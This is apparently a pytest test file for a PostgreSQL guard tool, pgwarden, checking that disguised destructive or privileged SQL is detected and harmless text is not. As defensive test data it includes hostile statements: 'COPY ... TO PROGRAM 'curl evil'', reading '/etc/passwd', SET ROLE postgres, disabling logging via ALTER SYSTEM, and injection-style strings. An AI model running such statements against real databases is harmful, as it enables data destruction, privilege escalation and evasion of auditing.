"""Statement analysis from the parse tree: no bypass through syntax, no false alarm from text."""

from __future__ import annotations

import pytest

from pgwarden.sql.analysis import analyze_sql

# (sql, kinds that must be present, tables written)
SEES_THROUGH = [
    ("DELETE FROM users", {"delete"}, {"public.users"}),
    ("dElEtE/**/FROM/* x */users -- tail", {"delete"}, {"public.users"}),
    ('DELETE FROM "users"', {"delete"}, {"public.users"}),
    ("DELETE FROM public.users WHERE id = 1", {"delete"}, {"public.users"}),
    ('DELETE FROM U&"\\0075sers"', {"delete"}, {"public.users"}),
    ("select 1; delete from users", {"select", "delete"}, {"public.users"}),
    ("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", {"delete"}, {"public.users"}),
    ("SELECT * FROM (SELECT 1) s, LATERAL (SELECT 2) t; UPDATE users SET a = 1", {"update"}, {"public.users"}),
    ("EXPLAIN ANALYZE DELETE FROM users", {"explain", "delete"}, {"public.users"}),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", {"explain", "update"}, {"public.users"}),
    ("PREPARE p AS DELETE FROM users", {"prepare", "delete"}, {"public.users"}),
    ("COPY users FROM STDIN", {"copy_from"}, {"public.users"}),
    ("COPY (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) TO STDOUT", {"copy_to", "delete"},
     {"public.users"}),
    ("COPY users TO PROGRAM 'curl evil'", {"copy_program"}, set()),
    ("COPY users FROM '/etc/passwd'", {"copy_file"}, {"public.users"}),
    ("SELECT * INTO stolen FROM users", {"ddl"}, {"public.stolen"}),
    ("CREATE TABLE stolen AS SELECT * FROM users", {"ddl"}, {"public.stolen"}),
    ("DO $$BEGIN DELETE FROM users; END$$", {"do"}, set()),
    ("DO $body$ BEGIN EXECUTE 'drop table x'; END $body$", {"do"}, set()),
    ("CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM users", {"ddl", "delete"}, {"public.users"}),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'delete from users'", {"ddl"}, set()),
    ("CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()", {"ddl"}, set()),
    ("SET ROLE postgres", {"role"}, set()),
    ("SET SESSION AUTHORIZATION postgres", {"role"}, set()),
    ("RESET ROLE", {"role"}, set()),
    ("SELECT set_config('role', 'postgres', false)", {"role"}, set()),
    ("SELECT set_config('session_authorization', 'postgres', false)", {"role"}, set()),
    ("SELECT set_config(current_setting('x'), 'postgres', false)", {"role"}, set()),
    ("SET session_replication_role = replica", {"system"}, set()),
    ("ALTER SYSTEM SET log_statement = 'none'", {"system"}, set()),
    ("SELECT pg_reload_conf()", {"system"}, set()),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", {"system"}, set()),
    ("SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')", {"delete"}, {"public.users"}),
    ("SELECT query_to_xml(some_column, true, false, '') FROM t", {"unknown"}, set()),
    ("TRUNCATE users", {"truncate"}, {"public.users"}),
    ("MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE", {"merge"}, {"public.users"}),
    ("GRANT ALL ON users TO public", {"grant"}, set()),
    ("CREATE ROLE evil SUPERUSER", {"role"}, set()),
    ("DROP TABLE users", {"ddl"}, set()),
    ("ALTER TABLE users ADD COLUMN x int", {"ddl"}, set()),
    ("BEGIN; INSERT INTO users VALUES (1); COMMIT", {"transaction", "insert"}, {"public.users"}),
    ("LOCK TABLE users", {"lock"}, set()),
    ("VACUUM users", {"maintenance"}, set()),
    ("CALL p()", {"call"}, set()),
    ("sel ect broken", {"unknown"}, set()),
]


@pytest.mark.parametrize("sql, kinds, writes", SEES_THROUGH, ids=[s[0][:40] for s in SEES_THROUGH])
def test_sees_through(sql, kinds, writes):
    a = analyze_sql(sql)
    assert kinds <= a.kinds, a
    assert writes <= a.writes, a


# Text that merely mentions a dangerous word: no write, no DDL.
FALSE_ALARMS = [
    "SELECT 'DROP TABLE users; DELETE FROM users'",
    "SELECT $$DELETE FROM users$$",
    "SELECT 1 -- DELETE FROM users",
    "SELECT /* TRUNCATE users */ 1",
    'SELECT "delete", "drop" FROM (SELECT 1 AS "delete", 2 AS "drop") t',
    "SELECT * FROM deletions WHERE note LIKE '%drop%'",
    "SELECT E'\\';DELETE FROM users;--'",
    "SELECT U&'\\0044ELETE'",
    "SELECT query_to_xml('SELECT 1', true, false, '')",
    "EXPLAIN DELETE FROM users",
    "SELECT current_setting('role')",
    "SHOW role",
]


@pytest.mark.parametrize("sql", FALSE_ALARMS)
def test_no_false_alarm(sql):
    a = analyze_sql(sql)
    assert not a.writes, a
    assert not a.kinds & {"delete", "update", "insert", "ddl", "truncate", "role", "system", "unknown"}, a


@pytest.mark.parametrize(
    "sql, has_where",
    [
        ("DELETE FROM t", False),
        ("DELETE FROM t WHERE true", False),
        ("DELETE FROM t WHERE 1 = 1", False),
        ("DELETE FROM t WHERE 'a' = 'a'", False),
        ("DELETE FROM t WHERE id = 1 OR true", False),
        ("DELETE FROM t WHERE true AND true", False),
        ("DELETE FROM t WHERE id = 1", True),
        ("DELETE FROM t WHERE 1 = 2", True),
        ("UPDATE t SET a = 1 WHERE id = 1 AND true", True),
        ("UPDATE t SET a = 1", False),
        ("WITH d AS (DELETE FROM t RETURNING 1) SELECT 1", False),
        ("SELECT 1", None),
    ],
)
def test_where(sql, has_where):
    assert analyze_sql(sql).has_where is has_where


def test_tables_and_functions():
    a = analyze_sql("SELECT lower(u.email), s.f(1) FROM public.users u JOIN sales.orders o ON o.uid = u.id")
    assert a.tables == {"public.users", "sales.orders"}
    assert {"lower", "f"} <= a.functions
    cte = analyze_sql("WITH x AS (SELECT 1) SELECT * FROM x")
    assert "public.x" not in cte.tables


def test_fingerprint_cache_shares_only_constant_free_analyses():
    from pgwarden.sql.cache import StatementCache

    cache = StatementCache()
    assert cache.get("SELECT * FROM t WHERE id = 1").kinds == {"select"}
    assert cache.get("SELECT * FROM t WHERE id = 2").kinds == {"select"}
    assert cache.fingerprint_hits == 1
    # Same fingerprint, different meaning: never shared.
    assert "role" not in cache.get("SELECT set_config('work_mem', '1MB', false)").kinds
    assert "role" in cache.get("SELECT set_config('role', 'postgres', false)").kinds
    assert cache.get("DELETE FROM t WHERE 1 = 2").has_where is True
    assert cache.get("DELETE FROM t WHERE 1 = 1").has_where is False
    assert "delete" not in cache.get("SELECT query_to_xml('select 1', true, false, '')").kinds
    assert "delete" in cache.get("SELECT query_to_xml('delete from t', true, false, '')").kinds
    assert cache.get("sel ect").kinds == {"unknown"}


def test_statements_evicted_from_the_cache_need_no_cycle_collector():
    """A reference cycle per statement once made RSS grow ~350 bytes per distinct statement:
    evicted statements survived to the oldest generation and waited for a full collection."""
    import gc

    from pgwarden.sql.cache import StatementCache

    cache = StatementCache(size=2)
    gc.collect()
    gc.disable()
    try:
        for i in range(50):
            statement = cache.get(f"select {i} from t where id = {i}")
            assert statement.kinds == frozenset({"select"}) and statement.fingerprint
            del statement
        assert gc.collect() == 0, "statements left garbage cycles behind"
    finally:
        gc.enable()
